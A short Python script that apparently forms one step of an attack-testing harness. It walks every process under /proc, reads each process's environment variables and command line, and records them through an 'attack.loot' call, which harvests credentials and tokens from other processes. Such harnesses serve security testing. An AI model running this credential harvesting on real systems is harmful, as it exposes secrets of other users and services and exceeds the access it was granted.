import os

import attack

attack.ran("proc-environ")
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    for name in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read()
        except OSError:
            continue
        attack.loot(f"{pid} {name} " + data.replace(b"\0", b" ").decode("utf-8", "replace"))
attack.bump_value()
